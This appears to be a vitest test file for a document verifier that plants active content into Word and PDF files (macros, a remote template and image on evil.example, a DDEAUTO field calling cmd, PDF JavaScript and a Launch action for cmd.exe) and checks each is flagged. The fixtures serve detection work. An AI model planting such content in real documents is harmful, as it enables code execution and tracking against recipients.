import { strFromU8, strToU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Verification } from '../../../../briefing/bundle/verification.ts';
import { verifyFile } from '../../../../electron/desk/bundle/verify-file.ts';
import { openParts } from '../../../../electron/desk/pack/parts.ts';
import { zipParts } from '../../../../electron/desk/pack/zip-parts.ts';
import type { Parsers } from '../../../../electron/desk/parsers/parsers.ts';
import { startParsers } from '../../../../electron/desk/parsers/parsers.ts';
import { valueOf } from '../outcomes.ts';
import { sharedFolder } from '../temporary-folder.ts';
import { messages, situationFiles, written } from './exported.ts';

const folder = sharedFolder();
let parsers: Parsers;
let files: Awaited<ReturnType<typeof situationFiles>>;
beforeAll(async () => {
  parsers = startParsers();
  files = await situationFiles(parsers);
});
afterAll(() => parsers.close());

async function verified(name: string, bytes: Uint8Array): Promise<Verification> {
  return valueOf(await verifyFile({ path: written(folder, name, bytes) }, parsers));
}

/** The Word file with a part put in, or with words of a part replaced. */
function wordWith(part: string, after: string, before?: string): Uint8Array {
  const parts = openParts(files.word);
  const xml = strFromU8(parts.get(part) ?? new Uint8Array());
  parts.set(part, strToU8(before === undefined ? after : xml.replace(before, `${after}${before}`)));
  return zipParts(parts);
}

const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationships = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">';
const settings = (target: string): string =>
  `${relationships}<Relationship Id="r9" Type="${type}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;

describe('a file into which something was put that acts or fetches is not what its bundle makes', () => {
  test.each([
    ['macros', 'word/vbaProject.bin', 'x', undefined, 'macros'],
    ['a file inside', 'word/embeddings/a.bin', 'x', undefined, 'an embedded file'],
    [
      'a template on the web',
      'word/_rels/settings.xml.rels',
      settings('https://evil.example/a.dotm'),
      undefined,
      'a template elsewhere, which is fetched when it is opened: https://evil.example/a.dotm',
    ],
    [
      'a template on a share',
      'word/_rels/settings.xml.rels',
      settings('file://evil.example/a.dotm'),
      undefined,
      'a template elsewhere, which is fetched when it is opened: file://evil.example/a.dotm',
    ],
    [
      'a picture that is fetched',
      'word/_rels/document.xml.rels',
      `<Relationship Id="r9" Type="${type}/image" Target="http://evil.example/p.png" TargetMode="External"/>`,
      '</Relationships>',
      'a reference to something outside of it: http://evil.example/p.png',
    ],
    [
      'a field that starts a program',
      'word/document.xml',
      '<w:p><w:fldSimple w:instr=" DDEAUTO cmd a b "/></w:p>',
      '<w:sectPr',
      'a field that reads elsewhere: DDEAUTO',
    ],
  ])('Word: %s', async (_, part, after, before, what) => {
    const result = await verified('active.docx', wordWith(part, after, before));
    expect(result).toMatchObject({ verdict: 'different', active: [what] });
    expect(messages(result).join('\n')).toContain(`error: The file holds ${what}. No export writes that`);
  });

  test.each([
    ['a script', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
    ['an action that starts a program', '<< /A [ << /S /Launch /F (cmd.exe) >> ] >>'],
    ['a form with scripts', '<< /XFA (x) >>'],
  ])('PDF: %s', async (what, object) => {
    const planted = Buffer.from(`\n9990 0 obj\n${object}\nendobj\n`);
    const result = await verified('active.pdf', Buffer.concat([files.pdf, planted]));
    expect(result).toMatchObject({ verdict: 'different', active: [what] });
  });

  test('the template that Word names on the disk of whoever saved the file is none of that', async () => {
    const local = settings('file:///C:\\Users\\Jane\\AppData\\Roaming\\Microsoft\\Templates\\House.dotx');
    const result = await verified('local.docx', wordWith('word/_rels/settings.xml.rels', local));
    expect(result).toMatchObject({ verdict: 'same words', active: [] });
  });
});
